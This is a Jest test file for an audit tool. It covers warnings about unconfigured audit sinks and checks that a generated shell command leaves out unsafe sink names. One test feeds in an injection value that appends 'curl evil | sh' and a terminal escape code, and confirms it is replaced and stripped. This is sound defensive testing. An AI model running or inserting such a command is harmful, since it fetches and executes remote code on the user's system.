import { expect, it } from '@jest/globals';

import { heldByText } from '../../src/main/audit-archive-command.ts';
import { LeftSinks } from '../../src/main/left-sinks.ts';

const HOUR = 3_600_000;

it('tells once of each sink that nobody serves and that is not configured', async () => {
  const told: unknown[] = [];
  let standing = [
    { name: 'own', next: 5, quietMs: HOUR },
    { name: 'elsewhere', next: 6, quietMs: 2_000 },
    { name: 'gone', next: 7, quietMs: HOUR },
  ];
  const log = { warn: (fields: unknown) => void told.push(fields) };
  const left = new LeftSinks({ all: () => Promise.resolve(standing) }, ['own'], log);
  for (let look = 0; look < 2; look += 1) await left.look();
  expect([left.now, told]).toEqual([[{ name: 'gone', next: 7 }], [{ sink: 'gone', next: 7 }]]);
  standing = [];
  await left.look();
  expect(left.now).toEqual([]);
});

it('puts no name of the database into a command to be pasted', () => {
  expect(heldByText('siem-2')).toMatch(/twofold audit forget-sink siem-2$/u);
  const text = heldByText('x; curl evil | sh\u001b[2J');
  expect(text).toMatch(/twofold audit forget-sink NAME$/u);
  expect(text).not.toMatch(/\p{C}/u);
});
